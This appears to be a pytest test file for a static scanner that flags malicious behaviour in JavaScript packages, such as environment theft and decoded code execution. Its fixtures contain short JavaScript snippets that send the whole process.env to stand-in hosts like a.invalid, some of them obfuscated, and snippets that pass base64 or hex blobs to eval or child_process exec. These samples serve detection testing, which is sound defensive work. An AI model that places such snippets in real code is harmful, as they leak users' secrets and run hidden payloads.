from __future__ import annotations

import pytest

from assay.javascript.follow import BRACKETS, TOO_SLOW
from assay.javascript.read import read
from assay.javascript.triage import triage
from assay.model.source import BehaviourKind, SourceFile

DUMP = "const https = require('https');\nhttps.get('https://a.invalid/?' + JSON.stringify(process.env));\n"


def kinds(file: SourceFile) -> set[tuple[BehaviourKind, BehaviourKind]]:
    return {(flow.source.kind, flow.sink.kind) for flow in file.flows}


def test_place_and_entry_points_are_told() -> None:
    file = read("lib/a.js", DUMP.encode(), ("main",))
    assert (file.path, file.size_bytes, file.reached_by) == ("lib/a.js", len(DUMP), ("main",))
    assert [str(flow.sink.location) for flow in file.flows] == ["lib/a.js:2:1"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_any_encoding_is_read(encoding: str) -> None:
    assert kinds(read("a.js", DUMP.encode(encoding))) == {(BehaviourKind.ENVIRONMENT_DUMP, BehaviourKind.NETWORK)}


THEFTS = {
    "request and write": "const r = require('https').request({}); r.write(JSON.stringify(process.env)); r.end()",
    "spread": "fetch('https://a.invalid', {method: 'POST', body: JSON.stringify({...process.env})})",
    "hidden": "const h = require('ht' + 'tps'), e = process['env']; h.get('https://a.invalid/' + escape(e))",
    "pattern": "import {request as r} from 'node:https'; const {env} = process; r('https://a.invalid/' + escape(env))",
    "through functions": (
        "function all() { return {e: process.env} }\n"
        "async function send(data) { await fetch('https://a.invalid', {body: JSON.stringify(data)}) }\nsend(all())"
    ),
}


@pytest.mark.parametrize("code", THEFTS.values(), ids=THEFTS.keys())
def test_the_environment_is_followed_to_the_network(code: str) -> None:
    assert (BehaviourKind.ENVIRONMENT_DUMP, BehaviourKind.NETWORK) in kinds(read("a.js", code.encode()))


QUIET = {
    "plain variables": "if (process.env.NODE_ENV) fetch('https://a.invalid', {proxy: process.env.HTTP_PROXY})",
    "passed to a child": "const {spawn} = require('child_process'); spawn('x', {env: process.env}); fetch('https://a.invalid')",
    "global object": "const g = new Function('return this')(); const u = atob('YQ==')",
    "no code at all": "\x89PNG\r\n\x1a\n" + "\0" * 100,
    "empty": "",
}


@pytest.mark.parametrize("code", QUIET.values(), ids=QUIET.keys())
def test_honest_code_has_no_flow(code: str) -> None:
    assert not read("a.js", code.encode("latin-1")).flows


def test_hidden_text_is_decoded() -> None:
    (flow,) = read("a.js", b"eval(Buffer.from('636f6e736f6c65', 'hex').toString())").flows
    assert (flow.source.decoded, flow.sink.kind) == ("console", BehaviourKind.DYNAMIC_CODE)


@pytest.mark.parametrize(
    "code",
    [
        "eval(/* c */ atob(/* c */ 'Y29uc29sZS5sb2coMSk='))",
        "eval?.(atob('Y29uc29sZS5sb2coMSk='))",
        "import {createRequire} from 'module'; const r = createRequire(import.meta.url);"
        "r('child_process').exec(atob('Y3VybA=='))",
    ],
    ids=["comments", "optional call", "create-require"],
)
def test_odd_ways_to_write_a_call_hide_nothing(code: str) -> None:
    assert any(flow.source.kind is BehaviourKind.DECODE for flow in read("a.mjs", code.encode()).flows)


BROKEN = b"[][(![]+[])[+[]]"


def test_what_would_take_the_parser_gigabytes_is_left_out_and_told() -> None:
    file = read("a.js", DUMP.encode() + b"eval(atob(x));" + BROKEN * 3_000)
    assert file.unread == BRACKETS
    assert (BehaviourKind.ENVIRONMENT_DUMP, BehaviourKind.NETWORK) in kinds(file)
    assert [trait.name for trait in file.traits] == ["jsfuck"]


def test_a_file_is_followed_until_it_is_told_to_stop() -> None:
    assert read("a.js", DUMP.encode(), stop=lambda: False).unread == ""
    given_up = read("a.js", DUMP.encode() * 1_000, stop=lambda: True)
    assert (given_up.unread, given_up.flows) == (TOO_SLOW, ())


def test_a_file_that_was_given_up_does_not_disturb_the_next() -> None:
    read("a.js", DUMP.encode() * 1_000, stop=lambda: True)
    assert kinds(read("b.js", DUMP.encode())) == {(BehaviourKind.ENVIRONMENT_DUMP, BehaviourKind.NETWORK)}


@pytest.mark.parametrize(
    "before", [b"/*\0*/", b"//\0\n", b"'\0';", b"/*" + b"\0" * 600 + b"*/", b"'" + b"a\0" * 300 + b"';", b"/\0/;"]
)
def test_zeros_in_comments_and_strings_hide_nothing_that_follows(before: bytes) -> None:
    file = read("index.js", before + b" eval(Buffer.from(blob, 'base64').toString())")
    assert len(file.flows) == 1


def test_what_is_taken_out_of_a_data_url_that_the_file_does_not_hold_is_told_as_such() -> None:
    shim = b"exports.run = (url) => {\n  const [, data] = url.match(/^data:(.*)/);\n  eval(atob(data));\n};\n"
    assert {flow.source.detail for flow in read("a.js", shim).flows} == {"atob of a data: URL"}
    held = b"const url = 'data:YQ==';\nconst [, data] = url.match(/^data:(.*)/);\neval(atob(data));\n"
    assert {flow.source.detail for flow in read("a.js", held).flows} == {"atob"}


@pytest.mark.parametrize(
    "code",
    [
        b'fetch("https://x.invalid", { body: JSON.stringify(process.env) });',
        b'globalThis.fetch("https://x.invalid", { body: JSON.stringify(process.env) });',
        b'navigator.sendBeacon("https://x.invalid", JSON.stringify(process.env));',
        b'const { request } = require("https"); q = request(a); q.write(JSON.stringify(process.env));',
        b'import { get } from "node:https";\nget("https://x.invalid/" + JSON.stringify(process.env));',
        b'const { exec: run } = require("child_process"); run(Buffer.from(blob, "base64").toString());',
        b'r = require("util").promisify(require("child_process").exec); r(Buffer.from(a, "base64").toString());',
        b'const { exec } = require("child_process"), run = promisify(exec); run(Buffer.from(blob, "hex").toString());',
        b"const AsyncFunction = (async function () {}).constructor; new AsyncFunction(atob(blob))();",
        b'const e = eval; e(Buffer.from(blob, "base64").toString());',
    ],
)
def test_in_a_large_file_what_can_send_or_start_is_followed_by_any_name(code: bytes) -> None:
    table = b"const table = [" + b"'abcdefghij'," * 4000 + b"];\n"
    assert len(read("index.js", table + code).flows) == 1


@pytest.mark.parametrize("code", [b"for (let i of names) i(...s);", b"throw new Error(i());", b"widget(i);"])
def test_a_name_for_eval_is_none_at_the_end_of_another(code: bytes) -> None:
    places = triage(b"const r = eval, t = atob(x);\n" + code)
    assert places.runs == ()
